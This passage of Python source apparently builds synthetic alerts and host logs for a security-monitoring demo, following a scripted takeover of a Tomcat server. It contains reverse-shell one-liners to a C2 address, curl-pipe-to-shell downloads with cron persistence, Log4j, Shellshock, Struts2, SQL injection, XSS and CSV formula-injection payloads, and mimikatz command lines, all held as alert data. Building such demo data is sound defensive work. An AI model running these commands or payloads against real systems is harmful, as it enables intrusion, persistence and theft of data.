            data_source="aegis_suspicious_file_v2",
        )

    def _iis_webshell(self, campaign, host, when):
        file = self.files["aspx_shell"]
        return self.security_center(
            host,
            when,
            alert_type="webshell",
            name=f"Webshell: {file.family}",
            event_name="webshell",
            category="Website backdoor",
            level="high",
            entities=[
                _file_entity(file, "attacker"),
                _process_entity(
                    self.rng.randint(900, 9000),
                    600,
                    r"C:\Windows\System32\inetsrv\w3wp.exe",
                    r"c:\windows\system32\inetsrv\w3wp.exe -ap DefaultAppPool",
                    "IIS APPPOOL\\DefaultAppPool",
                ),
                _ip_entity(campaign.attacker_ip, "attacker"),
            ],
            description=f"A web shell was written to {file.path} by the IIS worker process.",
            details=[("File path", file.path), ("MD5", file.md5)],
            data_source="aegis_suspicious_file_v2",
        )

    def _reverse_shell(self, campaign, host, when):
        port = 4444 + campaign.variant % 5
        shells = (
            ("/bin/bash", f"bash -i >& /dev/tcp/{campaign.c2_ip}/{port} 0>&1"),
            (
                "/usr/bin/python3",
                "python3 -c 'import socket,os,pty;s=socket.socket();"
                f's.connect(("{campaign.c2_ip}",{port}));'
                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
            ),
            ("/usr/bin/nc", f"nc -e /bin/sh {campaign.c2_ip} {port}"),
        )
        path, cmdline = shells[campaign.variant % len(shells)]
        pid = self.rng.randint(2000, 60000)
        return self.security_center(
            host,
            when,
            alert_type="reverse_shell",
            name="Reverse shell",
            event_name="reverse_shell",
            category="Suspicious process",
            level="high",
            entities=[
                _process_entity(pid, pid - 3, path, cmdline, "www-data", "attacker"),
                _ip_entity(campaign.c2_ip, "attacker"),
            ],
            description=f"A shell's input and output were redirected to {campaign.c2_ip}:{port}.",
            details=[("Command line", cmdline), ("Remote address", f"{campaign.c2_ip}:{port}")],
        )

    def _rootkit(self, campaign, host, when):
        kernel = campaign.variant % 2 == 0
        file = self.files["rootkit_ko" if kernel else "rootkit_so"]
        name = (
            "Kernel-mode rootkit: hidden kernel module"
            if kernel
            else ("User-mode rootkit: library preloaded through /etc/ld.so.preload")
        )
        return self.security_center(
            host,
            when,
            alert_type="rootkit",
            name=name,
            event_name="rootkit",
            category="Rootkit",
            level="high",
            entities=[_file_entity(file, "attacker")],
            description=f"{file.path} ({file.family}) hides processes from the system.",
            details=[("File path", file.path), ("MD5", file.md5)],
        )

    def _compromised_software(self, campaign, host, when):
        cmdline = (
            f"/bin/sh -c echo '*/5 * * * * curl -fsSL http://{_DOWNLOAD_DOMAIN}/x.sh | sh' "
            "> /var/spool/cron/crontabs/root"
        )
        pid = self.rng.randint(2000, 60000)
        return self.security_center(
            host,
            when,
            alert_type="compromised_software",
            name="Redis unauthorised access: cron job written by redis-server",
            event_name="redis_abnormal_write",
            category="Compromised basic software",
            level=self.rng.choice(("high", "medium")),
            entities=[
                _process_entity(pid, 811, "/bin/sh", cmdline, "redis", "attacker"),
                _process_entity(
                    811, 1, "/usr/bin/redis-server", "/usr/bin/redis-server 0.0.0.0:6379", "redis"
                ),
                _ip_entity(campaign.attacker_ip, "attacker"),
            ],
            description="redis-server, reachable without a password, wrote a cron job that "
            "downloads and runs a script.",
            details=[("Command line", cmdline), ("Source IP", campaign.attacker_ip)],
        )

    def _windows_malware(self, campaign, host, when):
        variants = (
            (
                "win_miner",
                "mining",
                "Mining program",
                "high",
                r"C:\Windows\Temp\xmrig.exe --url pool.xmr-mine.example:3333 --threads 4",
            ),
            (
                "mimikatz",
                "malicious_process",
                "Credential dumping tool",
                "high",
                r'C:\ProgramData\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
            ),
            (
                "win_trojan",
                "malicious_file",
                "Malicious file: Trojan.Win32.Agent",
                "medium",
                r"C:\Users\Public\svchosts.exe -k netsvc",
            ),
            (
                None,
                "malicious_process",
                "Encoded PowerShell command",
                "medium",
                "powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
            ),
        )
        file_key, alert_type, name, level, cmdline = variants[campaign.variant % len(variants)]
        pid = self.rng.randint(2000, 60000)
        path = (
            self.files[file_key].path
            if file_key
            else (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe")
        )
        entities = [_process_entity(pid, 4120, path, cmdline, "DEMO\\svc_backup", "attacker")]
        if file_key:
            entities.append(_file_entity(self.files[file_key], "attacker"))
        return self.security_center(
            host,
            when,
            alert_type=alert_type,
            name=name,
            event_name="suspicious_process",
            category="Malicious process",
            level=level,
            entities=entities,
            description=f"{path} ran: {cmdline}",
            details=[("Process path", path), ("Command line", cmdline)],
        )

    # -- campaign kinds: WAF ---------------------------------------------------

    def _waf_sqli(self, campaign, host, when):
        payloads = (
            "1' OR '1'='1' -- ",
            "1 UNION SELECT username,password FROM users-- ",
            "1' AND SLEEP(5)-- ",
            "1;DROP TABLE orders-- ",
        )
        payload = self.rng.choice(payloads)
        path = self.rng.choice(("/product.php", "/api/v1/orders", "/search"))
        return self.waf(
            host,
            when,
            campaign=campaign,
            name="SQL injection",
            rule_type="sqli",
            level="medium",
            method="GET",
            path=path,
            query=f"id={quote(payload)}",
            payload=payload,
        )

    def _waf_xss(self, campaign, host, when):
        payloads = (
            "<script>alert(1)</script>",
            '"><img src=x onerror=alert(document.cookie)>',
            "<svg/onload=alert('xss')>",
            "javascript:alert(document.domain)//",
        )
        payload = self.rng.choice(payloads)
        return self.waf(
            host,
            when,
            campaign=campaign,
            name="Cross-site scripting",
            rule_type="xss",
            level=self.rng.choice(("medium", "low")),
            method="GET",
            path="/search",
            query=f"q={quote(payload)}",
            payload=payload,
        )

    def _waf_rce(self, campaign, host, when):
        variants = (
            (
                "Remote code execution: Log4j JNDI lookup",
                "GET",
                "/api/v1/login",
                "",
                f"${{jndi:ldap://{campaign.c2_ip}:1389/Exploit}}",
            ),
            (
                "Remote code execution: Shellshock",
                "GET",
                "/cgi-bin/status",
                "",
                "() { :; }; /bin/bash -c 'cat /etc/passwd'",
            ),
            (
                "Command injection",
                "POST",
                "/admin/ping",
                "",
                "127.0.0.1;curl http://192.0.2.45/x.sh|sh",
            ),
            (
                "Remote code execution: Struts2 OGNL",
                "POST",
                "/upload/ImageUpload.action",
                "",
                "%{(#_='multipart/form-data').(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}",
            ),
        )
        name, method, path, query, payload = variants[campaign.variant % len(variants)]
        return self.waf(
            host,
            when,
            campaign=campaign,
            name=name,
            rule_type="code_exec",
            level="high",
            method=method,
            path=path,
            query=query,
            payload=payload,
        )

    def _waf_scanner(self, campaign, host, when):
        path = self.rng.choice(
            (
                "/.git/config",
                "/.env",
                "/wp-login.php",
                "/phpmyadmin/index.php",
                "/actuator/env",
                "/../../../../etc/passwd",
                "/manager/html",
                "/backup.zip",
            )
        )
        traversal = ".." in path
        return self.waf(
            host,
            when,
            campaign=campaign,
            name="Path traversal" if traversal else "Sensitive file scan",
            rule_type="lfilei" if traversal else "other",
            level="medium" if traversal else "low",
            method="GET",
            path=path,
            query="",
            payload=path,
            status=405,
            user_agent=self.rng.choice(
                (
                    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                    "Mozilla/5.0 zgrab/0.x",
                    "sqlmap/1.7.2#stable",
                )
            ),
        )

    def _waf_formula_injection(self, campaign, host, when):
        payload = self.rng.choice(
            (
                '=HYPERLINK("http://203.0.113.9/?leak="&A1,"Click for your invoice")',
                "=cmd|' /C calc'!A0",
                "+SUM(1+1)*cmd|' /C powershell IEX(wget 203.0.113.9/p)'!A0",
            )
        )
        return self.waf(
            host,
            when,
            campaign=campaign,
            name="CSV formula injection in form field",
            rule_type="other",
            level="low",
            method="POST",
            path="/account/profile",
            query=f"display_name={quote(payload)}",
            payload=payload,
            status=200,
            blocked=False,
        )

    # -- campaign kinds: Cloud Firewall ----------------------------------------

    def _cfw_inbound_ips(self, campaign, host, when):
        variants = (
            (
                "Apache Log4j2 remote code execution (CVE-2021-44228)",
                "abnormal_network",
                "high",
                443,
                "HTTPS",
                "Command execution",
            ),
            (
                "Redis unauthorised access attempt",
                "abnormal_network",
                "medium",
                6379,
                "Redis",
                "Suspicious connection",
            ),
            ("SSH brute-force attempt", "brute_force", "medium", 22, "SSH", "Brute force"),
            ("TCP port scan", "abnormal_network", "low", 0, "Unknown", "Scanning"),
            (
                "SMB remote code execution (MS17-010)",
                "abnormal_network",
                "high",
                445,
                "SMB",
                "Buffer overflow",
            ),
        )
        name, alert_type, level, port, app, attack_type = variants[campaign.variant % len(variants)]
        return self.cloud_firewall(
            host,
            when,
            alert_type=alert_type,
            name=name,
            level=level,
            direction="in",
            remote_ip=campaign.attacker_ip,
            remote_port=port or self.rng.randint(1, 65535),
            protocol="TCP",
            app=app,
            attack_type=attack_type,
            blocked=campaign.variant % 3 != 0,
        )

    def _cfw_outbound_c2(self, campaign, host, when):
        port = (443, 8443, 4443)[campaign.variant % 3]
        return self.cloud_firewall(
            host,
            when,
            alert_type="abnormal_network",
            name="Outbound connection to a known C2 server",
            level="high",
            direction="out",
            remote_ip=campaign.c2_ip,
            remote_port=port,
            protocol="TCP",
            app="Unknown",
            attack_type="Trojan/backdoor",
            blocked=campaign.variant % 2 == 0,
        )

    def _cfw_mining_pool(self, campaign, host, when):
        pool_ip, pool_domain, pool_port = _MINING_POOL
        return self.cloud_firewall(
            host,
            when,
            alert_type="mining",
            name="Mining behavior on the host",
            level="high",
            direction="out",
            remote_ip=pool_ip,
            remote_port=pool_port,
            protocol="TCP",
            app="Stratum",
            attack_type="Mining Behavior",
            blocked=True,
            extra_entities=[_value_entity("domain", pool_domain, "attacker")],
        )

    # -- campaign kinds: our own SIEM rules ------------------------------------

    def _siem_detection(self, campaign, host, when):
        rules = (
            (
                "SIEM-BF-001",
                "Multiple failed logons followed by a success",
                "brute_force",
                "high",
                "log_type:login | stats count(result='failure') as failures, "
                "count(result='success') as successes by src_ip, host_uuid | "
                "where failures > 20 and successes > 0",
            ),
            (
                "SIEM-NET-004",
                "Beaconing to a rare external destination",
                "abnormal_network",
                "medium",
                "log_type:network and direction:out | stats count() as connections, "
                "stddev(interval) as jitter by dst_ip | where connections > 30 and jitter < 5",
            ),
            (
                "SIEM-PROC-012",
                "Shell spawned by a web server process",
                "malicious_process",
                "high",
                "log_type:process and parent_path:(*java OR *php-fpm* OR *nginx) "
                "and path:(/bin/sh OR /bin/bash)",
            ),
            (
                "SIEM-DNS-007",
                "DNS query for a mining pool domain",
                "mining",
                "medium",
                "log_type:dns and domain:*xmr*",
            ),
            (
                "SIEM-WEB-003",
                "Burst of 4xx responses for one client",
                "web_attack",
                "low",
                "log_type:http and status>=400 | stats count() by src_ip | where count > 100",
            ),
            (
                "SIEM-LOGIN-002",
                "Privileged logon from a new source address",
                "suspicious_login",
                "medium",
                "log_type:login and result:success and user:(root OR Administrator) "
                "| where first_seen(src_ip)",
            ),
        )
        rule_id, name, alert_type, level, query = rules[campaign.variant % len(rules)]
        matched = self.rng.randint(3, 240)
        entities = [_ip_entity(campaign.attacker_ip, "attacker")]
        if alert_type == "mining":
            entities = [_value_entity("domain", _MINING_POOL[1], "attacker")]
        elif alert_type == "abnormal_network":
            entities = [_ip_entity(campaign.c2_ip, "attacker")]
        _, digest = self.new_identity("siem")
        return self.alert(
            source="siem",
            uuid_value=f"siem-{digest[:32]}",
            host=host,
            alert_type=alert_type,
            name=f"[{rule_id}] {name}",
            level=level,
            when=when,
            entities=entities,
            description=f"Detection rule {rule_id} matched {matched} log records on {host.name}.",
            raw={
                "rule_id": rule_id,
                "rule_name": name,
                "severity": level,
                "query": query,
                "window_minutes": 15,
                "matched_log_count": matched,
                "first_log_time": _iso(when - timedelta(minutes=14)),
                "last_log_time": _iso(when),
                "host_uuid": host.uuid,
            },
        )


_ATTACK_USER_AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0 Safari/537.36",
    "python-requests/2.31.0",
    "curl/7.88.1",
    "Go-http-client/1.1",
    "sqlmap/1.7.2#stable",
)


# --- the attack story ----------------------------------------------------------

_JAVA = "/usr/lib/jvm/java-11-openjdk-amd64/bin/java"
_JAVA_CMDLINE = (
    f"{_JAVA} -Dcatalina.base=/opt/tomcat -Djava.io.tmpdir=/opt/tomcat/temp "
    "org.apache.catalina.startup.Bootstrap start"
)


@dataclass(frozen=True)
class AttackStory:
    """One web server of Demo Production taken over, step by step.

    The host logs tell each step and the Security Center alerts name the same
    pids, paths, hashes and addresses, so that source tracing can link them:
    HTTP exploit -> Tomcat spawns ``/bin/sh -c`` -> ``curl ... | sh`` fetches
    a script -> the script drops and runs a binary -> the binary calls its C2.
    """

    host: Host
    start: datetime
    webshell: MaliciousFile
    dropped: MaliciousFile
    attacker_ip: str = "203.0.113.66"
    c2_ip: str = "192.0.2.77"
    c2_port: int = 4443
    reverse_shell_port: int = 4444
    java_pid: int = 2817

    def at(self, minutes: float) -> datetime:
        return self.start + timedelta(minutes=minutes)


def build_story(seed: int, now: datetime) -> AttackStory:
    hosts = {host.name: host for host in build_hosts(seed) if host.account == PRODUCTION}
    files = _malicious_files(seed)
    # Two days ago, in the morning: recent enough to be near the top of the lists.
    start = (now - timedelta(days=2)).replace(hour=2, minute=13, second=0, microsecond=0)
    return AttackStory(
        host=hosts["web-01"], start=start, webshell=files["jsp_shell"], dropped=files["kworkerd"]
    )


# pids of the story's processes, parent first.
_SH_ID, _SH_UNAME, _SH_PASSWD = 30211, 30215, 30219
_SH_REVERSE, _BASH_REVERSE = 30226, 30227
_SH_DOWNLOAD, _CURL_SCRIPT, _SH_SCRIPT = 30240, 30241, 30242
_CURL_BINARY, _CHMOD, _DROPPED, _SH_CRON, _CRONTAB = 30250, 30251, 30252, 30255, 30257


def _story_alerts(story: AttackStory, seed: int) -> list[dict]:
    host = story.host
    generator = _AlertGenerator(seed, story.start, [host], stream="story")
    script_url = f"http://{_DOWNLOAD_DOMAIN}/x.sh"
    binary_url = f"http://{_DOWNLOAD_DOMAIN}/kworkerd"
    download_cmdline = f"/bin/sh -c curl -fsSL {script_url} | sh"
    reverse_cmdline = (
        f"/bin/sh -c bash -i >& /dev/tcp/{story.c2_ip}/{story.reverse_shell_port} 0>&1"
    )
    dropped_cmdline = f"{story.dropped.path} -c {story.c2_ip}:{story.c2_port} -k"
    java = _process_entity(story.java_pid, 1, _JAVA, _JAVA_CMDLINE, "tomcat")
    campaign = _Campaign(story.attacker_ip, story.c2_ip, [host], story.start, variant=0)

    upload = generator.waf(
        host,
        story.at(4),
        campaign=campaign,
        name="Malicious file upload (Struts2 path traversal)",
        rule_type="webshell",
        level="high",
        method="POST",
        path="/upload/ImageUpload.action",
        query="",
        payload="uploadFileName=../../webapps/ROOT/uploads/help.jsp",
        status=200,
        blocked=False,
        user_agent="python-requests/2.31.0",
    )
    webshell = generator.security_center(
        host,
        story.at(4.5),
        alert_type="webshell",
        name=f"Webshell: {story.webshell.family}",
        event_name="webshell",
        category="Website backdoor",
        level="high",
        entities=[
            _file_entity(story.webshell, "attacker"),
            java,
            _ip_entity(story.attacker_ip, "attacker"),
        ],
        description=f"A JSP web shell was written to {story.webshell.path} by Tomcat.",
        details=[
            ("File path", story.webshell.path),
            ("MD5", story.webshell.md5),
            ("Writer", _JAVA),
        ],
        data_source="aegis_suspicious_file_v2",
    )
    reverse_shell = generator.security_center(
        host,
        story.at(9),
        alert_type="reverse_shell",
        name="Reverse shell",
        event_name="reverse_shell",
        category="Suspicious process",
        level="high",
        entities=[
            _process_entity(
                _SH_REVERSE, story.java_pid, "/bin/sh", reverse_cmdline, "tomcat", "attacker"
            ),
            java,
            _ip_entity(story.c2_ip, "attacker"),
        ],
        description=f"Tomcat started a shell connected to {story.c2_ip}:{story.reverse_shell_port}.",
        details=[("Command line", reverse_cmdline), ("Parent process", _JAVA)],
        exceptions=[
            {
                "name": "Outbound connection",
                "destination": f"{story.c2_ip}:{story.reverse_shell_port}",
                "pid": _BASH_REVERSE,
            }
        ],
    )
    download = generator.security_center(
        host,
        story.at(12),
        alert_type="malicious_process",
        name="Download and execution of a script by a shell",
        event_name="suspicious_process",
        category="Suspicious process",
        level="high",
        entities=[
            _process_entity(
                _SH_DOWNLOAD, story.java_pid, "/bin/sh", download_cmdline, "tomcat", "attacker"
            ),
            java,
            _value_entity("url", script_url, "attacker"),
            _value_entity("domain", _DOWNLOAD_DOMAIN, "attacker"),
        ],
        description=f"Tomcat started a shell that pipes {script_url} into sh.",
        details=[("Command line", download_cmdline), ("Parent process", _JAVA)],
    )
    dropped = generator.security_center(
        host,
        story.at(13),
        alert_type="malicious_file",
        name=f"Malicious file: {story.dropped.family}",
        event_name="malicious_file",
        category="Malicious file",
        level="high",
        entities=[
            _file_entity(story.dropped, "attacker"),
            _process_entity(
                _CURL_BINARY,
                _SH_SCRIPT,
                "/usr/bin/curl",
                f"curl -fsSL -o {story.dropped.path} {binary_url}",
                "tomcat",
            ),
            _value_entity("url", binary_url, "attacker"),
            _value_entity("domain", _DOWNLOAD_DOMAIN, "attacker"),
        ],
        description=f"{story.dropped.path} matches the signature of {story.dropped.family}.",
        details=[
            ("File path", story.dropped.path),
            ("MD5", story.dropped.md5),
            ("SHA256", story.dropped.sha256),
        ],
        data_source="aegis_suspicious_file_v2",
    )
    beacon = generator.security_center(
        host,
        story.at(14),
        alert_type="abnormal_network",
        name="Outbound connection to a malicious IP",
        event_name="malicious_ip_connection",
        category="Abnormal network connection",
        level="high",
        entities=[
            _process_entity(
                _DROPPED, _SH_SCRIPT, story.dropped.path, dropped_cmdline, "tomcat", "attacker"
            ),
            _file_entity(story.dropped, "attacker"),
            _ip_entity(story.c2_ip, "attacker"),
        ],
        description=f"{story.dropped.path} connects to {story.c2_ip}:{story.c2_port} every 5 minutes.",
        details=[
            ("Process path", story.dropped.path),
            ("Remote address", f"{story.c2_ip}:{story.c2_port}"),
        ],
    )
    return [upload, webshell, reverse_shell, download, dropped, beacon]


def build_alerts(seed: int, count: int, now: datetime) -> list[dict]:
    """``count`` native alerts (the attack story's included), oldest first."""
    story = _story_alerts(build_story(seed, now), seed)
    background = _AlertGenerator(seed, now, build_hosts(seed)).generate(max(count - len(story), 0))
    alerts = background + story[: max(count, 0)]
    alerts.sort(key=lambda alert: alert["occurred_at"])
    return alerts


# --- logs ----------------------------------------------------------------------


def build_logs(seed: int, now: datetime) -> list[dict]:
    """The attack story in host logs, plus a week of ordinary activity on
    several hosts, oldest first."""
    story = build_story(seed, now)
    logs = _story_logs(story) + _background_logs(seed, now)
    logs.sort(key=lambda log: log["time"])
    return logs


def _log(host: Host, log_type: str, moment: datetime, **fields) -> dict:
    return {
        "type": log_type,
        "account": host.account.uid,
        "host_uuid": host.uuid,
        "time": _iso(moment),
        **fields,
    }


def _process_log(
    host, moment, pid, ppid, path, cmdline, user, parent_path, parent_cmdline, file_hash=None
) -> dict:
    return _log(
        host,
        "process",
        moment,
        pid=pid,
        ppid=ppid,
        path=path,
        cmdline=cmdline,
        user=user,
        parent_path=parent_path,
        parent_cmdline=parent_cmdline,
        hash=file_hash,
    )


def _story_logs(story: AttackStory) -> list[dict]:
    host, attacker = story.host, story.attacker_ip
    logs = []

    def http(minutes, method, path, status, user_agent="python-requests/2.31.0"):
        logs.append(
            _log(
                host,
                "http",
                story.at(minutes),
                method=method,
                host=host.domain,
                path=path,
                status=status,
                src_ip=attacker,
                user_agent=user_agent,
            )
        )

    # Reconnaissance, then the exploit that writes the web shell.
    probes = (
        "/",
        "/login",
        "/admin",
        "/manager/html",
        "/.env",
        "/.git/config",
        "/actuator/env",
        "/struts/webconsole.html",
        "/upload/",
        "/upload/ImageUpload.action",
    )
    for number, path in enumerate(probes):
        http(
            number * 0.3,
            "GET",
            path,
            200 if path in ("/", "/login", "/upload/") else 404,
            "Mozilla/5.0 zgrab/0.x",
        )
    http(4, "POST", "/upload/ImageUpload.action", 200)
    logs.append(
        _log(
            host,
            "file",
            story.at(4.1),
            path=story.webshell.path,
            operation="create",
            pid=story.java_pid,
            process_path=_JAVA,
            hash=story.webshell.sha256,
        )
    )

    def webshell_command(minutes, pid, command, query):
        http(minutes, "GET", f"/uploads/help.jsp?cmd={quote(query)}", 200)
        logs.append(
            _process_log(
                host,
                story.at(minutes + 0.01),
                pid,
                story.java_pid,
                "/bin/sh",
                f"/bin/sh -c {command}",
                "tomcat",
                _JAVA,
                _JAVA_CMDLINE,
            )
        )

    # Discovery through the web shell.
    webshell_command(6, _SH_ID, "id", "id")
    webshell_command(6.5, _SH_UNAME, "uname -a", "uname -a")
    webshell_command(7, _SH_PASSWD, "cat /etc/passwd", "cat /etc/passwd")

    # A reverse shell to the C2 server.
    reverse = f"bash -i >& /dev/tcp/{story.c2_ip}/{story.reverse_shell_port} 0>&1"
    webshell_command(9, _SH_REVERSE, reverse, reverse)
    logs.append(
        _process_log(
            host,
            story.at(9.02),
            _BASH_REVERSE,
            _SH_REVERSE,
            "/bin/bash",
            "bash -i",
            "tomcat",
            "/bin/sh",
            f"/bin/sh -c {reverse}",
        )
    )
    logs.append(
        _log(
            host,
            "network",
            story.at(9.03),
            pid=_BASH_REVERSE,
            process_path="/bin/bash",
            src_ip=host.private_ip,
            src_port=48712,
            dst_ip=story.c2_ip,
            dst_port=story.reverse_shell_port,
            protocol="tcp",
            direction="out",
        )
    )

    # curl | sh: fetch the script and run it.
    script_url = f"http://{_DOWNLOAD_DOMAIN}/x.sh"
    download = f"curl -fsSL {script_url} | sh"
    webshell_command(12, _SH_DOWNLOAD, download, download)
    sh_download = f"/bin/sh -c {download}"
    logs.append(
        _process_log(
            host,
            story.at(12.02),
            _CURL_SCRIPT,
            _SH_DOWNLOAD,
            "/usr/bin/curl",
            f"curl -fsSL {script_url}",
            "tomcat",
            "/bin/sh",
            sh_download,
        )
    )
    logs.append(
        _process_log(
            host,
            story.at(12.02),
            _SH_SCRIPT,
            _SH_DOWNLOAD,
            "/bin/sh",
            "sh",
            "tomcat",
            "/bin/sh",
            sh_download,
        )
    )

    def fetch(minutes, pid):
        logs.append(
            _log(
                host,
                "dns",
                story.at(minutes),
                domain=_DOWNLOAD_DOMAIN,
                answer=_DOWNLOAD_SERVER,
                pid=pid,
                process_path="/usr/bin/curl",
            )
        )
        logs.append(
            _log(
                host,
                "network",
                story.at(minutes + 0.01),
                pid=pid,
                process_path="/usr/bin/curl",
                src_ip=host.private_ip,
                src_port=40000 + pid % 20000,
                dst_ip=_DOWNLOAD_SERVER,
                dst_port=80,
                protocol="tcp",
                direction="out",
            )
        )

    fetch(12.03, _CURL_SCRIPT)

    # The script drops a binary, makes it executable and runs it.
    binary_url = f"http://{_DOWNLOAD_DOMAIN}/kworkerd"
    dropped = story.dropped
    logs.append(
        _process_log(
            host,
            story.at(12.5),
            _CURL_BINARY,
            _SH_SCRIPT,
            "/usr/bin/curl",
            f"curl -fsSL -o {dropped.path} {binary_url}",
            "tomcat",
            "/bin/sh",
            "sh",
        )
    )
    fetch(12.51, _CURL_BINARY)
    logs.append(
        _log(
            host,
            "file",
            story.at(12.6),
            path=dropped.path,
            operation="write",
            pid=_CURL_BINARY,
            process_path="/usr/bin/curl",
            hash=dropped.sha256,
        )
    )
    logs.append(
        _process_log(
            host,
            story.at(12.7),
            _CHMOD,
            _SH_SCRIPT,
            "/usr/bin/chmod",
            f"chmod +x {dropped.path}",
            "tomcat",
            "/bin/sh",
            "sh",
        )
    )
    logs.append(
        _log(
            host,
            "file",
            story.at(12.71),
            path=dropped.path,
            operation="chmod",
            pid=_CHMOD,
            process_path="/usr/bin/chmod",
            hash=dropped.sha256,
        )
    )
    dropped_cmdline = f"{dropped.path} -c {story.c2_ip}:{story.c2_port} -k"
    logs.append(
        _process_log(
            host,
            story.at(12.8),
            _DROPPED,
            _SH_SCRIPT,
            dropped.path,
            dropped_cmdline,
            "tomcat",
            "/bin/sh",
            "sh",
            dropped.sha256,
        )
    )
    logs.append(
        _log(
            host,
            "file",
            story.at(12.8),
            path=dropped.path,
            operation="execute",
            pid=_DROPPED,
            process_path=dropped.path,
            hash=dropped.sha256,
        )
    )

    # Persistence: the script re-installs itself from cron.
    cron_line = f"*/10 * * * * curl -fsSL {script_url} | sh"
    cron_command = f"/bin/sh -c (crontab -l 2>/dev/null; echo '{cron_line}') | crontab -"
    logs.append(
        _process_log(
            host,
            story.at(12.9),
            _SH_CRON,
            _SH_SCRIPT,
            "/bin/sh",
            cron_command,
            "tomcat",
            "/bin/sh",
            "sh",
        )
    )
    logs.append(
        _process_log(
            host,
            story.at(12.91),
            _CRONTAB,
            _SH_CRON,
            "/usr/bin/crontab",
            "crontab -",
            "tomcat",
            "/bin/sh",
            cron_command,
        )
    )
    logs.append(
        _log(
            host,
            "file",
            story.at(12.92),
            path="/var/spool/cron/crontabs/tomcat",
            operation="write",
            pid=_CRONTAB,
            process_path="/usr/bin/crontab",
        )
    )

    # The binary calls its C2 server every five minutes until the demo's "now".
    for beacon in range(24):
        logs.append(
            _log(
                host,
                "network",
                story.at(13 + 5 * beacon),
                pid=_DROPPED,
                process_path=dropped.path,
                src_ip=host.private_ip,
                src_port=51000 + beacon,
                dst_ip=story.c2_ip,
                dst_port=story.c2_port,
                protocol="tcp",
                direction="out",
            )
        )
    return logs


_NOISY_HOSTS = ("web-01", "web-02", "jump-01", "db-01", "win-ad-01", "shop-web-01", "spark-01")
_BENIGN_DOMAINS = (
    "mirrors.example.org",
    "api.payments.example",
    "ntp.example.net",
    "metrics.demo-corp.example",
)


def _background_logs(seed: int, now: datetime) -> list[dict]:
    """A week of ordinary activity: logons, cron, services, lookups, page views.

    Failed logons from the usual attackers are part of ordinary life for a
    host on the Internet; they feed the SIEM's brute-force rules.
    """
    rng = random.Random(f"{seed}/logs")
    hosts = {host.name: host for host in build_hosts(seed)}
    jump = hosts["jump-01"]
    logs = []
    for name in _NOISY_HOSTS:
        host = hosts[name]
        for days_ago in range(7):
            clock = _DayClock(rng, now, days_ago)
            day = (
                _windows_day(host, jump, clock, rng)
                if host.is_windows
                else (_linux_day(host, jump, clock, rng))
            )
            logs.extend(day)
    return logs


@dataclass(frozen=True)
class _DayClock:
    """Times of one past day, never later than "now"."""

    rng: random.Random
    now: datetime
    days_ago: int

    def __call__(self, hour: int, minute: int | None = None) -> datetime:
        midnight = (self.now - timedelta(days=self.days_ago)).replace(
            hour=0, minute=0, second=0, microsecond=0
        )
        minute = self.rng.randint(0, 59) if minute is None else minute
        return min(
            midnight + timedelta(hours=hour, minutes=minute), self.now - timedelta(minutes=1)
        )


def _linux_day(host: Host, jump: Host, at, rng: random.Random) -> list[dict]:
    logs = []
    for hour in sorted(rng.sample(range(8, 20), 2)):
        user = rng.choice(("deploy", "ops"))
        logs.append(
            _log(
                host,
                "login",
                at(hour),
                user=user,
                src_ip=jump.private_ip,
                src_port=rng.randint(40000, 60000),
                result="success",
                method="publickey",
            )
        )
    if host.public_ip:
        attacker = rng.choice(_ATTACKER_IPS[:6])
        logs.append(
            _log(
                host,
                "login",
                at(rng.randint(0, 23)),
                user=rng.choice(("root", "admin")),
                src_ip=attacker,
                src_port=rng.randint(30000, 65000),
                result="failure",
                method="password",
                count=rng.randint(5, 60),
            )
        )
    cron_pid = rng.randint(10000, 20000)
    logs.append(
        _process_log(
            host,
            at(3, 17),
            cron_pid,
            812,
            "/bin/sh",
            "/bin/sh -c cd / && run-parts --report /etc/cron.daily",
            "root",
            "/usr/sbin/cron",
            "/usr/sbin/CRON -f",
        )
    )
    logs.append(
        _process_log(
            host,
            at(3, 17),
            cron_pid + 1,
            cron_pid,
            "/usr/sbin/logrotate",
            "/usr/sbin/logrotate /etc/logrotate.conf",
            "root",
            "/bin/sh",
            "/bin/sh -c cd / && run-parts --report /etc/cron.daily",
        )
    )
    mirror = _BENIGN_DOMAINS[0]
    logs.append(
        _log(
            host,
            "dns",
            at(4),
            domain=mirror,
            answer="198.51.100.250",
            pid=cron_pid + 2,
            process_path="/usr/bin/apt-get",
        )
    )
    logs.append(
        _log(
            host,
            "network",
            at(4, 30),
            pid=cron_pid + 2,
            process_path="/usr/bin/apt-get",
            src_ip=host.private_ip,
            src_port=rng.randint(40000, 60000),
            dst_ip="198.51.100.250",
            dst_port=443,
            protocol="tcp",
            direction="out",
        )
    )
    if host.role == WEB:
        for _ in range(4):
            logs.append(
                _log(
                    host,
                    "http",
                    at(rng.randint(7, 22)),
                    method="GET",
                    host=host.domain,
                    path=rng.choice(("/", "/products", "/cart", "/static/app.js")),
                    status=200,
                    src_ip=rng.choice(_BENIGN_CLIENTS),
                    user_agent="Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
                )
            )
    return logs


def _windows_day(host: Host, jump: Host, at, rng: random.Random) -> list[dict]:
    svchost = r"C:\Windows\System32\svchost.exe"
    logs = [
        _log(
            host,
            "login",
            at(9),
            user="DEMO\\administrator",
            src_ip=jump.private_ip,
            src_port=rng.randint(40000, 60000),
            result="success",
            method="RDP",
        ),
        _log(
            host,
            "login",
            at(rng.randint(0, 23)),
            user="Administrator",
            src_ip=rng.choice(_ATTACKER_IPS[:6]),
            src_port=rng.randint(30000, 65000),
            result="failure",
            method="RDP",
            count=rng.randint(10, 200),
        ),
        _process_log(
            host,
            at(2, 0),
            rng.randint(3000, 9000),
            640,
            svchost,
            r"C:\Windows\system32\svchost.exe -k netsvcs -p",
            "NT AUTHORITY\\SYSTEM",
            r"C:\Windows\System32\services.exe",
            r"C:\Windows\system32\services.exe",
        ),
        _log(
            host,
            "dns",
            at(6),
            domain="time.example.net",
            answer="198.51.100.251",
            pid=1324,
            process_path=svchost,
        ),
    ]
    return logs


# --- event statuses ------------------------------------------------------------

_HANDLED_NOTES = (
